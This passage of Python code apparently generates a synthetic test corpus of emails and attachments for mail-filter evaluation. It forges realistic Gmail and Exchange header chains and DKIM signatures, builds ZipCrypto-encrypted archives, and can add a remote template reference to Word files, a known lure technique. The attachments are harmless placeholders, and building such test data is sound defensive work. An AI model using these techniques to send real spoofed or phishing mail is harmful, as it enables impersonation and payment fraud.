        def pstr(s):
            # PDF text string: UTF-16BE with BOM if non-latin
            try:
                b = s.encode("latin-1")
                return "(" + b.decode("latin-1").replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"
            except UnicodeEncodeError:
                return "<FEFF" + s.encode("utf-16-be").hex().upper() + ">"
        objs = [
            "<< /Type /Catalog /Pages 2 0 R /Lang (de-DE) >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R /F2 6 0 R /F3 7 0 R >> >> /Contents 4 0 R >>",
            None,
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding 8 0 R >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding 8 0 R >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Symbol /ToUnicode 10 0 R >>",
            "<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [%s] >>" % diff,
            "<< /Title %s /Author %s /Creator %s /Producer %s /CreationDate (%s) /ModDate (%s) >>" % (
                pstr(self.title), pstr(self.author), pstr(self.creator), pstr(self.producer), pdfdate, pdfdate),
        ]
        objs.append(None)
        cmap = _symbol_cmap()
        out = io.BytesIO()
        out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offs = []
        for i, o in enumerate(objs, 1):
            offs.append(out.tell())
            if o is None:
                data = content if i == 4 else cmap
                out.write(b"%d 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % (i, len(data)))
                out.write(data + b"\nendstream\nendobj\n")
            else:
                out.write(("%d 0 obj\n%s\nendobj\n" % (i, o)).encode("latin-1"))
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
        for o in offs:
            out.write(b"%010d 00000 n \n" % o)
        fid = hexid(32, "pdfid", self.title, self.author).upper()
        out.write(("trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /ID [<%s><%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (
            len(objs) + 1, 9, fid, fid, xref)).encode("ascii"))
        return out.getvalue()


# ---------------------------------------------------------------------------
# ZIP / Office Open XML / ZipCrypto
# ---------------------------------------------------------------------------

def mkzip(entries, when=(2026, 12, 1, 9, 0, 0)):
    """entries: list of (name, bytes) or (name, bytes, date_time)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for e in entries:
            name, data = e[0], e[1]
            dt = e[2] if len(e) > 2 else when
            zi = zipfile.ZipInfo(name, date_time=dt)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 0
            zi.external_attr = 0x20
            if isinstance(data, str):
                data = data.encode("utf-8")
            z.writestr(zi, data, compresslevel=6)
    return buf.getvalue()


_CRCT = []
for _n in range(256):
    _c = _n
    for _k in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRCT.append(_c)


def _crc_b(crc, b):
    return (crc >> 8) ^ _CRCT[(crc ^ b) & 0xFF]


class _ZC:
    def __init__(self, pwd):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for c in pwd:
            self.upd(c)

    def upd(self, c):
        k = self.k
        k[0] = _crc_b(k[0], c)
        k[1] = (k[1] + (k[0] & 0xFF)) & 0xFFFFFFFF
        k[1] = (k[1] * 134775813 + 1) & 0xFFFFFFFF
        k[2] = _crc_b(k[2], (k[1] >> 24) & 0xFF)

    def enc(self, data):
        out = bytearray()
        for p in data:
            t2 = (self.k[2] | 2) & 0xFFFF
            ks = ((t2 * (t2 ^ 1)) >> 8) & 0xFF
            out.append(p ^ ks)
            self.upd(p)
        return bytes(out)


def mkzip_encrypted(entries, password, when=(2026, 12, 1, 9, 0, 0)):
    """Traditional PKWARE (ZipCrypto) encrypted archive, deterministic."""
    pwd = password.encode("utf-8")
    out = io.BytesIO()
    central = []
    y, mo, d, hh, mi, ss = when
    dostime = hh << 11 | mi << 5 | ss // 2
    dosdate = (y - 1980) << 9 | mo << 5 | d
    for name, data in entries:
        if isinstance(data, str):
            data = data.encode("utf-8")
        nb = name.encode("utf-8")
        flags = 0x1 | (0x800 if not is_ascii(name) else 0)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        co = zlib.compressobj(6, zlib.DEFLATED, -15)
        comp = co.compress(data) + co.flush()
        zc = _ZC(pwd)
        header = H("zc", name, password)[:11] + bytes([crc >> 24])
        encd = zc.enc(header + comp)
        off = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, flags, 8, dostime, dosdate, crc, len(encd), len(data), len(nb), 0))
        out.write(nb)
        out.write(encd)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, flags, 8, dostime, dosdate, crc, len(encd),
                                   len(data), len(nb), 0, 0, 0, 0, 0x20, off) + nb)
    cd_off = out.tell()
    cd = b"".join(central)
    out.write(cd)
    out.write(struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(entries), len(entries), len(cd), cd_off, 0))
    return out.getvalue()


def _x(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def docx(paras, title, author, when, company="", remote_template=None, lang="de-DE"):
    """paras: list of strings ('**' prefix = bold heading)."""
    W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    body = []
    for p in paras:
        if p.startswith("**"):
            body.append('<w:p><w:pPr><w:spacing w:after="120"/></w:pPr><w:r><w:rPr><w:b/><w:sz w:val="26"/><w:lang w:val="%s"/></w:rPr><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % (lang, _x(p[2:])))
        else:
            body.append('<w:p><w:r><w:rPr><w:lang w:val="%s"/></w:rPr><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % (lang, _x(p)))
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document %s><w:body>%s'
           '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1417" w:right="1417" w:bottom="1134" w:left="1417" w:header="708" w:footer="708" w:gutter="0"/></w:sectPr></w:body></w:document>') % (W, "".join(body))
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
          '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" Target="docProps/app.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    docrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/></Relationships>')
    settings = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:settings %s>%s<w:defaultTabStop w:val="708"/>'
                '<w:characterSpacingControl w:val="doNotCompress"/><w:compat><w:compatSetting w:name="compatibilityMode" w:uri="http://schemas.microsoft.com/office/word" w:val="15"/></w:compat></w:settings>') % (
        W, '<w:attachedTemplate r:id="rId1"/>' if remote_template else "")
    iso = when.utc.strftime("%Y-%m-%dT%H:%M:00Z")
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:dcmitype="http://purl.org/dc/dcmitype/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>%s</dc:title><dc:creator>%s</dc:creator><cp:lastModifiedBy>%s</cp:lastModifiedBy>'
            '<cp:revision>3</cp:revision><dcterms:created xsi:type="dcterms:W3CDTF">%s</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">%s</dcterms:modified></cp:coreProperties>') % (
        _x(title), _x(author), _x(author), iso, iso)
    app = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" '
           'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><Template>%s</Template><TotalTime>12</TotalTime><Pages>1</Pages>'
           '<Application>Microsoft Office Word</Application><DocSecurity>0</DocSecurity><Company>%s</Company><AppVersion>16.0000</AppVersion></Properties>') % (
        "Normal.dotm" if not remote_template else _x(remote_template.rsplit("/", 1)[-1]), _x(company))
    entries = [("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc),
               ("word/_rels/document.xml.rels", docrels), ("word/settings.xml", settings)]
    if remote_template:
        entries.append(("word/_rels/settings.xml.rels",
                        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                        'Target="%s" TargetMode="External"/></Relationships>' % _x(remote_template)))
    entries += [("docProps/core.xml", core), ("docProps/app.xml", app)]
    y, mo, d = when.dt.year, when.dt.month, when.dt.day
    return mkzip(entries, when=(1980, 1, 1, 0, 0, 0))


def _col(n):
    s = ""
    n += 1
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def xlsx(rows, sheet="Tabelle1", author="", when=None, widths=None):
    """rows: list of lists of str/int/float. Strings are inline strings."""
    data = []
    for ri, row in enumerate(rows, 1):
        cells = []
        for ci, v in enumerate(row):
            ref = "%s%d" % (_col(ci), ri)
            if v is None or v == "":
                continue
            if isinstance(v, (int, float)):
                cells.append('<c r="%s"%s><v>%s</v></c>' % (ref, ' s="1"' if isinstance(v, float) else "", repr(v)))
            else:
                cells.append('<c r="%s" t="inlineStr"%s><is><t xml:space="preserve">%s</t></is></c>' % (ref, ' s="2"' if ri == 1 else "", _x(v)))
        data.append('<row r="%d">%s</row>' % (ri, "".join(cells)))
    cols = ""
    if widths:
        cols = "<cols>%s</cols>" % "".join('<col min="%d" max="%d" width="%d" customWidth="1"/>' % (i + 1, i + 1, w) for i, w in enumerate(widths))
    ws = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">%s<sheetData>%s</sheetData></worksheet>') % (cols, "".join(data))
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="%s" sheetId="1" r:id="rId1"/></sheets></workbook>') % _x(sheet)
    wbrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
              '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>')
    styles = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              '<numFmts count="1"><numFmt numFmtId="164" formatCode="#,##0.00"/></numFmts>'
              '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font><font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
              '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>'
              '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
              '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
              '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
              '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
              '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/></cellXfs></styleSheet>')
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    iso = when.utc.strftime("%Y-%m-%dT%H:%M:00Z") if when else "2026-12-01T08:00:00Z"
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            '<dc:creator>%s</dc:creator><cp:lastModifiedBy>%s</cp:lastModifiedBy><dcterms:created xsi:type="dcterms:W3CDTF">%s</dcterms:created>'
            '<dcterms:modified xsi:type="dcterms:W3CDTF">%s</dcterms:modified></cp:coreProperties>') % (_x(author), _x(author), iso, iso)
    return mkzip([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb),
                  ("xl/_rels/workbook.xml.rels", wbrels), ("xl/styles.xml", styles),
                  ("xl/worksheets/sheet1.xml", ws), ("docProps/core.xml", core)], when=(1980, 1, 1, 0, 0, 0))


def ics_escape(s):
    return s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def ics_fold(line):
    b = line.encode("utf-8")
    if len(b) <= 75:
        return line
    out = []
    cur = ""
    for ch in line:
        lim = 75 if not out else 74
        if len((cur + ch).encode("utf-8")) > lim:
            out.append(cur)
            cur = ch
        else:
            cur += ch
    out.append(cur)
    return "\r\n ".join(out)


def ics(method, uid, organizer, attendees, start, end, summary, description, location, stamp,
        prodid="-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", tzid=None, extra=None, seq=0):
    L = ["BEGIN:VCALENDAR", "PRODID:" + prodid, "VERSION:2.0", "METHOD:" + method]
    L += ["BEGIN:VEVENT"]
    on, oe = organizer
    L.append("ORGANIZER;CN=%s:mailto:%s" % (on if is_ascii(on) else '"%s"' % on, oe))
    for n, e in attendees:
        L.append("ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=%s:mailto:%s" % ('"%s"' % n, e))
    L += ["DESCRIPTION:" + ics_escape(description), "UID:" + uid, "SUMMARY:" + ics_escape(summary),
          "DTSTART:" + start.ical(), "DTEND:" + end.ical(), "DTSTAMP:" + stamp.ical(),
          "LOCATION:" + ics_escape(location), "SEQUENCE:%d" % seq, "STATUS:CONFIRMED", "TRANSP:OPAQUE"]
    if extra:
        L += extra
    L += ["BEGIN:VALARM", "TRIGGER:-PT15M", "ACTION:DISPLAY", "DESCRIPTION:Reminder", "END:VALARM",
          "END:VEVENT", "END:VCALENDAR"]
    return "\r\n".join(ics_fold(l) for l in L) + "\r\n"


def placeholder(kind, name):
    return ("HARMLESS TEST PLACEHOLDER (%s) for '%s'. This file contains no executable code. "
            "Generated for a mail-filter evaluation corpus.\n" % (kind, name)).encode("utf-8")

# ---------------------------------------------------------------------------
# staff and correspondents
# ---------------------------------------------------------------------------

STAFF = [
    # key, display name (as signed), address, office, role
    ("hoffmann", "Markus Hoffmann", "m.hoffmann@example.com", "Nürnberg (DE, HQ)", "Managing Director / CEO"),
    ("krueger", "Sabine Krüger", "s.krueger@example.com", "Nürnberg (DE, HQ)", "CFO, Head of Finance"),
    ("wagner", "Thomas Wagner", "t.wagner@example.com", "Nürnberg (DE, HQ)", "Head of IT"),
    ("neumann", "Florian Neumann", "f.neumann@example.com", "Nürnberg (DE, HQ)", "IT Security & Systems Administrator"),
    ("becker", "Julia Becker", "j.becker@example.com", "Nürnberg (DE, HQ)", "HR Manager (Personalleitung)"),
    ("schmitt", "Andreas Schmitt", "a.schmitt@example.com", "Nürnberg (DE, HQ)", "Accounts Payable (Kreditorenbuchhaltung)"),
    ("vogel", "Katrin Vogel", "k.vogel@example.com", "Nürnberg (DE, HQ)", "Procurement (Einkauf)"),
    ("fischer", "Lena Fischer", "l.fischer@example.com", "Nürnberg (DE, HQ)", "Executive Assistant to the CEO"),
    ("romano", "Giulia Romano", "g.romano@examplegroup.eu", "Verona (IT)", "Country Manager Italy"),
    ("bianchi", "Marco Bianchi", "m.bianchi@examplegroup.eu", "Verona (IT)", "Logistics Coordinator"),
    ("ricci", "Francesca Ricci", "f.ricci@examplegroup.eu", "Verona (IT)", "Administration & Payroll"),
    ("nowak", "Katarzyna Nowak", "k.nowak@examplegroup.eu", "Wrocław (PL)", "Chief Accountant (Główna księgowa)"),
    ("wisniewski", "Piotr Wiśniewski", "p.wisniewski@examplegroup.eu", "Wrocław (PL)", "Logistics Manager"),
    ("kowalczyk", "Agnieszka Kowalczyk", "a.kowalczyk@examplegroup.eu", "Wrocław (PL)", "HR Specialist"),
    ("papadopoulos", "Νίκος Παπαδόπουλος", "n.papadopoulos@examplegroup.eu", "Thessaloniki (GR)", "Sales Manager Greece"),
    ("georgiou", "Eleni Georgiou", "e.georgiou@examplegroup.eu", "Thessaloniki (GR)", "Accountant"),
    ("antoniou", "Δημήτρης Αντωνίου", "d.antoniou@examplegroup.eu", "Thessaloniki (GR)", "IT Support"),
    ("martinez", "Carlos Martínez García", "c.martinez@examplegroup.eu", "Valencia (ES)", "Country Director Spain"),
    ("fernandez", "Lucía Fernández", "l.fernandez@examplegroup.eu", "Valencia (ES)", "Administration & Finance"),
    ("lopez", "Javier López", "j.lopez@examplegroup.eu", "Valencia (ES)", "Sales Representative"),
    ("whitfield", "James Whitfield", "j.whitfield@example.com", "Manchester (UK)", "UK Operations Manager"),
    ("collins", "Sarah Collins", "s.collins@example.com", "Manchester (UK)", "Finance Controller UK"),
    ("bennett", "Oliver Bennett", "o.bennett@example.com", "Manchester (UK)", "IT Service Desk"),
    ("smirnov", "Алексей Смирнов", "a.smirnov@examplegroup.eu", "Moscow (RU)", "Head of Representative Office"),
    ("kuznetsova", "Ольга Кузнецова", "o.kuznetsova@examplegroup.eu", "Moscow (RU)", "Accountant"),
    ("sokolov", "Дмитрий Соколов", "d.sokolov@examplegroup.eu", "Moscow (RU)", "Logistics Specialist"),
]
S = {k: (n, e) for k, n, e, o, r in STAFF}


def who(*keys):
    return [S[k] for k in keys]


CORRESPONDENTS = [
    ("Stefan Maier", "s.maier@lieferant-gmbh.de", "Lieferant GmbH, Erlangen (DE) - key account sales, German supplier"),
    ("Petra Lang", "p.lang@lieferant-gmbh.de", "Lieferant GmbH - accounts receivable (Debitorenbuchhaltung)"),
    ("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de", "Lieferant GmbH - invoice mailbox (ERP)"),
    ("Cristina Colombo", "c.colombo@ferretti-trasporti.it", "Ferretti Trasporti S.r.l., Bussolengo/Verona (IT) - traffic office, Italian haulier"),
    ("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it", "Ferretti Trasporti S.r.l. - administration / invoicing"),
    ("Tomasz Zieliński", "t.zielinski@partner-logistik.pl", "Partner Logistik Sp. z o.o., Poznań (PL) - forwarding, Polish logistics partner"),
    ("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl", "Partner Logistik Sp. z o.o. - accounting"),
]

# genuine bank accounts of the correspondents
IBAN_LIEFERANT = iban("DE", "76350000" + "0040318827")          # Sparkasse Erlangen
BIC_LIEFERANT = "BYLADEM1ERH"
IBAN_FERRETTI = iban_it("05034", "11701", "000000041873")        # Banco BPM, Verona
IBAN_PARTNER = iban_pl("1090135", "0000000147392816")            # Santander Bank Polska, Poznań

# ---------------------------------------------------------------------------
# transport profiles
# ---------------------------------------------------------------------------

def _n(key, mod, salt="n"):
    return int(hexid(8, salt, key), 16) % mod


def p_gmail(key, sent, rcpt, frm):
    n = _n(key, 150)
    host = "mail-%s-f%d.google.com" % (["ej1", "wm1", "lf1", "ed1", "wr1", "pl1"][n % 6], 41 + n)
    ip = "209.85.%d.%d" % (208 + n % 14, 41 + n)
    pst = sent.shift(1, -480)
    chain = ["by %s with SMTP id %s-%s.%d%s\tfor <%s>; %s (PST)" % (
        host, alnum(10, "g1", key, alphabet="abcdef0123456789"), alnum(13, "g2", key, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"),
        _n(key, 9) + 1, CRLF, rcpt, pst.rfc())]
    extra = [("X-Google-Smtp-Source", b64blob(60, "gss", key)[:80]),
             ("X-Received", "by 2002:a17:907:%s:b0:%s:%s with SMTP id %s.%d.%d;%s        %s (PST)" % (
                 hexid(4, "xr1", key), hexid(3, "xr2", key), hexid(3, "xr3", key), alnum(10, "xr4", key, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"),
                 _n(key, 99), 1764000000000 % 10 ** 13 + _n(key, 99999999), CRLF, pst.rfc())),
             ("X-Gm-Message-State", "AOJu0Y" + b64blob(48, "gms", key)[:60])]
    return dict(hop=(host, host, ip, "1.3"), chain=chain, extra=extra,
                dkim=("gmail.com", "20230601", "mime-version:from:date:message-id:subject:to"))


def p_eop(key, sent, tenant="eur", dom=None):
    n = _n(key, 200)
    if tenant == "deu":
        srv = "FR%dP281MB%04d" % (2 + n % 3, 1000 + _n(key, 8999, "s"))
        fqdn = srv + ".DEUP281.PROD.OUTLOOK.COM"
        helo = "DEU01-FR2-obe.outbound.protection.outlook.com"
        rdns = "mail-fr2deu01on2%03d.outbound.protection.outlook.com" % (60 + n % 70)
        ip = "40.107.135.%d" % (60 + n % 70)
    elif tenant == "gbr":
        srv = "LO%dP265MB%04d" % (2 + n % 4, 1000 + _n(key, 8999, "s"))
        fqdn = srv + ".GBRP265.PROD.OUTLOOK.COM"
        helo = "GBR01-LO2-obe.outbound.protection.outlook.com"
        rdns = "mail-lo2gbr01on2%03d.outbound.protection.outlook.com" % (60 + n % 70)
        ip = "40.107.20.%d" % (60 + n % 70)
    elif tenant == "olkn":
        srv = "DU%dPR0%dMB%04d" % (0 + n % 3, 1 + n % 9, 1000 + _n(key, 8999, "s"))
        fqdn = srv + ".eurprd0%d.prod.outlook.com" % (1 + n % 9)
        helo = "EUR03-VI1-obe.outbound.protection.outlook.com"
        rdns = "mail-vi1eur03olkn2%03d.outbound.protection.outlook.com" % (10 + n % 90)
        ip = "40.92.%d.%d" % (64 + n % 20, 10 + n % 90)
    else:
        srv = "AM%dPR0%dMB%04d" % (5 + n % 4, 1 + n % 9, 1000 + _n(key, 8999, "s"))
        fqdn = srv + ".eurprd0%d.prod.outlook.com" % (1 + n % 9)
        helo = "EUR05-AM6-obe.outbound.protection.outlook.com"
        rdns = "mail-am6eur05on2%03d.outbound.protection.outlook.com" % (60 + n % 70)
        ip = "40.107.22.%d" % (60 + n % 70)
    utc = sent.shift(1, 0)
    chain = ["from %s (%s) by%s\t%s (%s) with Microsoft SMTP Server (version=TLS1_2,%s\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.%d.%d; %s" % (
        fqdn, "2603:10a6:%x:%x::%x" % (0x100 + n, 0x10 + n % 200, 1 + n % 20), CRLF, fqdn, "2603:10a6:%x:%x::%x" % (0x100 + n, 0x10 + n % 200, 1 + n % 20),
        CRLF, 8600 + n % 200, 10 + n % 30, utc.rfc().replace(" +0000", " +0000"))]
    mid = "<%s%s@%s>" % (srv, alnum(12, "mid", key, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), fqdn)
    extra = [("Thread-Index", "AQH" + b64blob(24, "ti", key)[:29]),
             ("Accept-Language", None), ("Content-Language", None),
             ("X-MS-Has-Attach", None), ("X-MS-TNEF-Correlator", "")]
    return dict(hop=(helo, rdns, ip, "1.3"), chain=chain, extra=extra, mid=mid, srv=srv)


def p_internal(key, sent, lang="de-DE", attach=False, topic=None, client=None):
    utc1 = sent.shift(2)
    chain = ["from EXG-MBX0%d.corp.example.com (10.20.0.3%d) by mail-int01.example.com%s\t(10.20.0.25) with Microsoft SMTP Server (version=TLS1_2,%s\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1748.24; %s" % (
        1 + _n(key, 2), 1 + _n(key, 2), CRLF, CRLF, utc1.rfc()),
        "from EXG-MBX0%d.corp.example.com ([fe80::%s:%s:%s:%s]) by%s\tEXG-MBX0%d.corp.example.com ([fe80::%s:%s:%s:%s%%12]) with mapi id%s\t15.02.1748.024; %s" % (
        1 + _n(key, 2), hexid(4, "a", key), hexid(4, "b", key), hexid(4, "c", key), hexid(4, "d", key), CRLF,
        1 + _n(key, 2), hexid(4, "a", key), hexid(4, "b", key), hexid(4, "c", key), hexid(4, "d", key), CRLF, sent.shift(1).rfc())]
    mid = "<%s@EXG-MBX0%d.corp.example.com>" % (alnum(32, "imid", key, alphabet="0123456789abcdef"), 1 + _n(key, 2))
    extra = []
    if topic:
        extra.append(("Thread-Topic", topic))
    extra += [("Thread-Index", "Ad" + b64blob(22, "iti", key)[:28]), ("Accept-Language", "%s, en-US" % lang),
              ("Content-Language", lang), ("X-MS-Has-Attach", "yes" if attach else ""), ("X-MS-TNEF-Correlator", ""),
              ("X-MS-Exchange-Organization-AuthAs", "Internal"), ("X-MS-Exchange-Organization-AuthSource", "EXG-MBX0%d.corp.example.com" % (1 + _n(key, 2))),
              ("X-Originating-IP", "[10.20.%d.%d]" % (11 + _n(key, 30, "o1"), 20 + _n(key, 200, "o2")))]
    return dict(hop=("mail-int01.example.com", "mail-int01.example.com", "10.20.0.25", "1.2"), chain=chain, extra=extra, mid=mid)


def ar_internal(frm):
    dom = frm.split("@")[1]
    return auth_res(spf=("pass", frm, "10.20.0.25"), dkim=("pass", dom, "exg2026"), dmarc=("pass", dom, "quarantine"))


def mail(key, *, rp, rcpt, sent, hop, ar, frm, to, subject, root, delay=3, chain=(), dkim=None, cc=None,
         subj_cs="utf-8", subj_enc="B", name_cs=None, mid=None, reply_to=None, irt=None, refs=None,
         extra=(), top_extra=(), sender=None, date=None, bcc_rcpt=False):
    name_cs = name_cs or subj_cs
    recv = sent.shift(delay)
    hdrs = [("Return-Path", "<%s>" % rp if rp else "<>")]
    for k, v in top_extra:
        hdrs.append((k, v))
    hdrs.append(("Authentication-Results", ar))
    hdrs.append(("Received", rcv_mx(hop[0], hop[1], hop[2], rcpt, recv, hop[3] if len(hop) > 3 else "1.3", key)))
    for c in chain:
        hdrs.append(("Received", c))
    sigs = []
    if dkim:
        sigs.append(dkim)
    import re as _re
    for entry in ar.split(";" + CRLF + "\t")[1:]:
        if not entry.startswith("dkim=pass"):
            continue
        md = _re.search(r"header\.(?:d|i)=@?([\w.-]+)", entry)
        ms = _re.search(r"header\.s=([\w.-]+)", entry)
        if md and ms and not any(x[0] == md.group(1) for x in sigs):
            sigs.append((md.group(1), ms.group(1), "from:to:subject:date:message-id:mime-version:content-type"))
    for d, s, h in sigs:
        hdrs.append(("DKIM-Signature", dkim_sig(d, s, h, key + d, sent)))
    hdrs.append(("From", addr(frm[0], frm[1], name_cs, subj_enc)))
    if sender:
        hdrs.append(("Sender", addr(sender[0], sender[1], name_cs, subj_enc)))
    if to:
        hdrs.append(("To", addrs(to, name_cs, subj_enc)))
    if cc:
        hdrs.append(("Cc", addrs(cc, name_cs, subj_enc)))
    if reply_to:
        hdrs.append(("Reply-To", addr(reply_to[0], reply_to[1], name_cs, subj_enc)))
    hdrs.append(("Subject", ew(subject, subj_cs, subj_enc, 9)))
